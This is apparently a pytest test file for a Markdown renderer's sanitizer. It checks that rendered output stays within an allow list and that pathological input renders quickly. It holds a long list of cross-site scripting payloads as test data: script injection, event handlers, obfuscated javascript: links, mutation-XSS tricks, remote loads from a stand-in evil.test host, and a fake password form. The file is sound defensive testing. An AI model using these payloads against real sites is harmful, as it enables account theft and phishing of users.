"""Markdown that attacks the reader or the server."""

import random
import threading
import time
from xml.etree import ElementTree

import pytest

from webinar.lessons.diagrams import Diagram
from webinar.lessons.problems import Report
from webinar.lessons.render import CannotRender, Pictures, render, render_inline, text_of

from .allowed import outside_the_allow_list
from .making import svg

DRAWN = """<text x="1">&lt;script&gt;"&amp;<tspan>b</tspan></text><rect fill="none"/>
<switch><text systemLanguage="ru">р</text><text>e</text></switch>"""
DIAGRAM = Diagram(ElementTree.fromstring(svg(DRAWN)), Report("way.svg"))
PICTURES = Pictures({"map.png": "/pictures/map.png"}, {"way.svg": DIAGRAM})

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "</p><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="map.png" onerror="alert(1)">',
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '<img """><script>alert("x")</script>">',
    "<img src='https://evil.test/pixel.gif'>",
    "<img src=//evil.test/pixel.gif>",
    "<img srcset='https://evil.test/x 1x' src=map.png>",
    "![x](https://evil.test/pixel.gif)",
    "![x](//evil.test/pixel.gif)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](../../etc/passwd.png)",
    "![x](/pictures/other.png)",
    '![x](map.png "a\\" onload=\\"alert(1)")',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x]( javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](//evil.test)",
    "[x](/\\evil.test)",
    "[x](\\\\evil.test)",
    "[x](/\t/evil.test)",
    "[x](ftp://evil.test)",
    "[x](http://plain.test)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[y]: javascript:alert(1) 'onclick=x'\n\n![y][y]",
    "<javascript:alert(1)>",
    '<https://evil.test/"onmouseover="alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="https://ok.test" target=_blank ping=https://evil.test>x</a>',
    '<a href="https://ok.test" rel="opener">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<style>body{background:url(https://evil.test)}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<iframe src=https://evil.test></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.test></object><embed src=https://evil.test>",
    "<form action=https://evil.test><input name=password><button>Sign in</button></form>",
    "<base href=https://evil.test/>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><a title='</title><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<video src=https://evil.test autoplay onloadstart=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<div onmouseover=alert(1) markdown=1>x</div>",
    "<div class='modal-open source' id=login>x</div>",
    "<p lang='\"><script>alert(1)</script>' dir=evil>x</p>",
    "<td colspan=999999999>x</td>",
    "<img width=999999 height=1e9 src=map.png>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]>",
    "<div><b><p></div><i>",
    "<b <script>alert(1)</script>0",
    "<<script>alert(1);//<</script>",
    "<a\x00href='javascript:alert(1)'>x</a>",
    "<x onclick=alert(1)>x</x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```html onload=alert(1)\n<script>\n```",
    "# Title {: onclick=alert(1) style=x id=login class=evil }",
    "Text\n{: onclick=alert(1) #id .evil }",
    "*x*{: onclick=alert(1) }",
    "![x](map.png){: onerror=alert(1) }",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "> [!WARNING onclick=x]\n> x",
    "\x02wzxhzdk:0\x03 <script>alert(1)</script>",
    "\x02klzzwxh:0001\x03",
    "![x](way.svg)",
    '![" onload="alert(1)](way.svg)',
    "![&quot; onload=&quot;alert(1)](way.svg)",
    "![<script>alert(1)</script>](way.svg)",
    "![</svg><script>alert(1)</script>](way.svg)",
    '![x](way.svg "a" onload="alert(1)")',
    "![x](way.svg){: onload=alert(1) #id .evil style=x }",
    '<img src="way.svg">',
    "<img src=way.svg alt=x onload=alert(1) title='<img src=way.svg>'>",
    "<img src='way.svg' alt='\"><script>alert(1)</script>'>",
    '<abbr title=\'<img src="way.svg" alt="x">\'>x</abbr>',
    "<a title='<img' href='https://ok.test'>x</a> <abbr title=' src='>x</abbr>",
    "[![x](way.svg)](javascript:alert(1))",
    "![x][y]\n\n[y]: way.svg 'onload=x'",
    "<svg class=diagram onload=alert(1)><text>x</text></svg>",
    "<svg viewBox='0 0 1 1'><switch><foreignObject><script>x</script></foreignObject></switch>",
    "[x](term:x)",
    '[x](term:"onclick="alert(1))',
    '[x](term:"><script>alert(1)</script>)',
    '[x](<term:"><script>alert(1)</script>>)',
    "[x](term:javascript:alert(1))",
    "[x](term://evil.test)",
    "[x](term:&quot;&gt;&lt;script&gt;)",
    "[x](term:x){: onclick=alert(1) href=javascript:alert(1) class=evil }",
    "[x][y]\n\n[y]: term:x 'onclick=x'",
    "<a href='term:x' class='term evil'>x</a>",
    "<a class=term href='javascript:alert(1)'>x</a>",
    "<p class='term diagram'>x</p>",
]


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_markdown_stays_within_the_allow_list(source):
    for text in (source, f"Before {source} after", f"- {source}", f"> {source}\n\n{source}"):
        assert outside_the_allow_list(render(text, pictures=PICTURES).html) == []
        assert outside_the_allow_list(render_inline(text).html) == []


def test_the_allow_list_check_would_notice():
    assert outside_the_allow_list("<script>") == ["<script>"]
    assert outside_the_allow_list("<p onclick=x>") == ["<p onclick='x'>"]
    assert outside_the_allow_list("<a href='java\tscript:x'>") != []
    assert outside_the_allow_list("<img src='https://evil.test'>") != []
    assert outside_the_allow_list("<p class='evil'>") != []
    assert outside_the_allow_list("<p class='term'>") != []
    assert outside_the_allow_list("<svg onload=x>") != []
    assert outside_the_allow_list("<g aria-label=x>") != []
    assert outside_the_allow_list("<rect fill='url(#x)'>") != []
    assert outside_the_allow_list("<foreignObject>") != []
    assert outside_the_allow_list("<!-- x -->") != []
    assert outside_the_allow_list("<a href='https://ok.test' rel='noopener noreferrer'>") == []


@pytest.mark.parametrize("source", ["<script>alert(1)</script>", "<style>x{}</style>"])
def test_programs_leave_no_text_behind(source):
    assert render(f"a {source} b").html == "<p>a  b</p>"
    assert text_of(render_inline(f"a {source} b").html) == "a b"


def test_pictures_drawings_and_terms_come_through_to_be_attacked():
    text = "![x](map.png) ![x](way.svg) [x](term:x)"

    html = render(text, "ru", PICTURES).html

    assert 'src="/pictures/map.png"' in html
    assert '<text x="1">&lt;script&gt;&quot;&amp;<tspan>b</tspan></text>' in html
    assert "<text>р</text>" in html
    assert 'href="/glossary/ru#x"' in html


def test_two_thousand_mutated_documents_stay_within_the_allow_list():
    chance = random.Random(20261124)
    for _ in range(2_000):
        source = _mutate("\n".join(chance.sample(HOSTILE, k=3)), chance)
        try:
            html = render(source, pictures=PICTURES).html
        except CannotRender:
            continue
        assert outside_the_allow_list(html) == [], source


def _mutate(source, chance):
    pieces = ["<", ">", '"', "'", "&", "/", "\n", "`", "[", "](", "{:", " ", "\t", "<b ", "<!--"]
    pieces += ["![x](way.svg)", "way.svg", "term:", "](term:x)", "<img src=way.svg alt='", "<svg "]
    for _ in range(chance.randrange(12)):
        at = chance.randrange(len(source))
        cut = at + chance.randrange(4)
        source = source[:at] + chance.choice(pieces) + source[cut:]
    return source


@pytest.mark.parametrize(
    "piece",
    ["[", "![", "](", "[a](", "[a][", "<", "<a ", "<!--", "<![CDATA[", "<div>\n", "&#", "`", "`a`"]
    + ["*", "_", "**a", "**_a", "*a_", "> ", "> a\n", "- ", "- a\n", "1. ", "#", "| a ", "\n|"]
    + ["a\n-\n", "a | b\n-|-\n", "{: a=", "a\n\n", " ", "\t", "\\", "\n ", "```\n", "[a]: b\n"],
)
@pytest.mark.parametrize("tail", ["", "a", "\n" + "a" * 12_000])
def test_text_made_to_be_slow_ends_soon(piece, tail):
    source = (piece * 16_000)[: 15_000 - len(tail)] + tail

    started = time.process_time()
    try:
        render(source)
    except CannotRender:
        pass

    # It takes a tenth of this; before there was a limit, some took 20 s.
    assert time.process_time() - started < 3


def test_lists_within_lists_end_soon():
    source = "".join("  " * depth + "- a\n" for depth in range(100))

    started = time.process_time()
    try:
        render(source)
    except CannotRender:
        pass

    assert time.process_time() - started < 3


@pytest.mark.parametrize(
    ("source", "reason"),
    [
        ("x" * 16_001, "it is longer than 16000 characters"),
        ("[" * 5_000, "it is too long for so many `*`, `_`, `[`, `<` and backticks"),
        ("- " * 1_000 + "a", "it is too deeply nested"),
    ],
)
def test_what_cannot_be_rendered_says_why(source, reason):
    with pytest.raises(CannotRender, match="^it is") as caught:
        render(source)

    assert str(caught.value) == reason


def test_a_declaration_without_end_stops_no_parser():
    for source in ("[!WARNING]\n<p>\n\n<!", "x <![ y", "<![x\n\n<!"):
        assert outside_the_allow_list(render(source).html) == []


def test_many_threads_render_the_same_as_one():
    sources = [f"# {n}\n\n- *{n}*\n  - `{n}`\n\n[x]: https://e.test/{n}\n\n[x]" for n in range(20)]
    expected = [render(source).html for source in sources]
    results = {}

    def work(name):
        results[name] = [render(source).html for source in sources]

    threads = [threading.Thread(target=work, args=(name,)) for name in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    assert all(result == expected for result in results.values())
    assert len(results) == 8
